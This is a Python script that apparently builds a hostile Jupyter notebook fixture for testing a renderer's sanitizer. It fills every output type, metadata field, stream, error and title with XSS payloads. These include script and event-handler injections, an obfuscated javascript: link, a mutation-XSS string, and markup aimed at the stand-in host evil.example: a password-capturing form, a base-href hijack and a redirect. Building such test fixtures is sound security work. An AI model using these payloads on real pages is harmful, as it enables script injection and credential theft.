# ruff: noqa  # written as an attacker writes
"""Outputs stored in the submitted file: scripts, SVG, iframes, JavaScript, false images, in every type."""

from victim import code, notebook

MARKUP = """<script>alert(1)</script><img src=x onerror=alert(1)><iframe srcdoc="<script>1</script>">
<svg onload=alert(1)><script>alert(1)</script></svg><a href="jav&#x09;ascript:alert(1)">x</a>
<form action="https://evil.example"><input name=password></form><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example"><style>body{display:none}</style>
<link rel=stylesheet href="https://evil.example/x.css"><object data="https://evil.example"></object>
<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=1>'>
</code></pre></section></main></body></html><script>alert(1)</script>"""
MIMES = (
    "text/html text/markdown text/latex text/plain image/svg+xml image/png image/jpeg "
    "application/javascript application/json application/vnd.jupyter.widget-view+json text/x-evil"
).split()


def build() -> dict:
    """One cell an output type, one with streams and errors."""
    cells = []
    for mime in MIMES:
        cell = code("x = 1")
        for kind in ("display_data", "execute_result"):
            data = {mime: MARKUP, "text/plain": MARKUP}
            output = {"output_type": kind, "data": data, "metadata": {mime: {"onload": MARKUP}}}
            if kind == "execute_result":
                output["execution_count"] = 1
            cell["outputs"].append(output)
        cells.append(cell)
    last = code("y = 2")
    last["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": MARKUP},
        {"output_type": "stream", "name": MARKUP, "text": [MARKUP, MARKUP]},
        {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP]},
    ]
    return notebook([*cells, last], title=MARKUP, authors=[{"name": MARKUP}])
